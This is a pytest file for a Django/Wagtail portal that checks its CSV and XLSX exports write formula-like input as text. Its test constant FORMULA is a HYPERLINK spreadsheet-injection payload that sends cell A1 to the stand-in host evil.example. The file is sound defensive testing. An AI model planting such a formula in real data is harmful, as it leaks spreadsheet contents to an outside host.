"""No export carries a live formula: text that a spreadsheet program would read as a formula
(beginning with ``=``, ``+``, ``-``, ``@``, tab or CR) is written as text in every CSV and XLSX
the portal produces, its own and Wagtail's, and numbers stay numbers (``home/spreadsheets.py``)."""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth.models import Group
from django.urls import reverse

from home.spreadsheets import FORMULA_PREFIXES, csv_safe
from press.models import FeedbackSubmission
from reporting.models import UnitAnnualReport
from security.models import AuditEvent
from tests.factories import UnitFactory
from tests.press.test_feedback import form_page, message  # noqa: F401 -- a fixture, used by name
from tests.reporting.conftest import YEAR, coordinator
from tests.workflows.conftest import as_user
from workflows.roles import EDITORIAL_BOARD, setup_editorial_workflow

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def bytes_of(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def body_of(response):
    return bytes_of(response).decode()


def csv_cells(response):
    return [cell for row in csv.reader(io.StringIO(body_of(response))) for cell in row]


def xlsx_cells(response):
    workbook = openpyxl.load_workbook(io.BytesIO(bytes_of(response)))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_csv_safe_writes_formulas_as_text_and_keeps_numbers(prefix):
    assert csv_safe(f"{prefix}1+1") == f"'{prefix}1+1"
    assert csv_safe("Tin ASEAN") == "Tin ASEAN"
    assert csv_safe(-5) == -5
    assert csv_safe(2.5) == 2.5
    assert csv_safe("-5") == "-5"
    assert csv_safe("+84 24 1234 5678") == "'+84 24 1234 5678"
    assert csv_safe(None) is None


def test_a_user_name_typed_at_a_failed_sign_in_is_text_in_the_audit_log_exports(
    client, chain, django_user_model
):
    client.post("/admin/login/", {"username": FORMULA, "password": "sai"})
    assert AuditEvent.objects.filter(action=AuditEvent.LOGIN_FAILED, actor_name=FORMULA).exists()
    as_user(client, django_user_model.objects.create_superuser("root", "root@example.org", "x"))
    url = "/admin/audit_log/"
    cells = csv_cells(client.get(url, {"export": "csv"}))
    assert "'" + FORMULA in cells
    assert FORMULA not in cells
    cells = xlsx_cells(client.get(url, {"export": "xlsx"}))
    typed = [cell for cell in cells if cell.value == FORMULA]
    assert typed and all(cell.data_type == "s" for cell in typed)
    # Wagtail's own report of the site's history writes through the same row writer.
    response = client.get("/admin/reports/site-history/", {"export": "csv"})
    assert response.status_code == 200
    assert not any(cell.startswith("=") for cell in csv_cells(response))


def test_a_reporters_message_is_text_in_the_submissions_exports(
    client,
    form_page,  # noqa: F811 -- the fixture imported above
    django_user_model,
):
    setup_editorial_workflow()
    client.post(form_page.url, message(noi_dung=FORMULA, co_quan_bao_chi="@SUM(1+1)"))
    assert FeedbackSubmission.objects.count() == 1
    board = django_user_model.objects.create_user("ban.bien.tap")
    board.groups.add(Group.objects.get(name=EDITORIAL_BOARD))
    admin = django_user_model.objects.create_superuser("root", "root@example.org", "x")
    for user, url in (
        (board, "/admin/snippets/press/feedbacksubmission/"),
        (admin, f"/admin/forms/submissions/{form_page.pk}/"),
    ):
        as_user(client, user)
        body = body_of(client.get(url, {"export": "csv"}))
        assert "Bấm vào đây" in body, url
        for cell in csv.reader(io.StringIO(body)):
            for value in cell:
                assert not value.startswith(tuple(FORMULA_PREFIXES)) or value.startswith("-"), (
                    url,
                    value,
                )
        assert "'" + FORMULA in body or ("'" + FORMULA).replace('"', '""') in body, url


def test_narrative_text_and_titles_are_text_in_the_compiled_workbook(
    client, tree, django_user_model
):
    setup_editorial_workflow()
    unit = UnitFactory(code="cchc", name="=Vụ CCHC")
    UnitAnnualReport.objects.create(
        unit=unit,
        year=YEAR,
        status=UnitAnnualReport.SUBMITTED,
        progress=FORMULA,
        results="+1+1",
        difficulties="@SUM(A1)",
        proposals="-2+3",
        figures={
            "news_vi": 3,
            "english_share": -5,
            "items": [
                {"date": "2025-01-10", "title": FORMULA, "type": "=news", "english": True},
            ],
        },
    )
    client.force_login(coordinator(django_user_model))
    response = client.get(reverse("reporting_annual_workbook", args=[YEAR]))
    assert response.status_code == 200
    cells = xlsx_cells(response)
    formulas = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert len(formulas) >= 6
    assert all(cell.data_type == "s" for cell in formulas)
    numbers = {c.value for c in cells if c.data_type == "n"}
    assert {3, -5} <= numbers
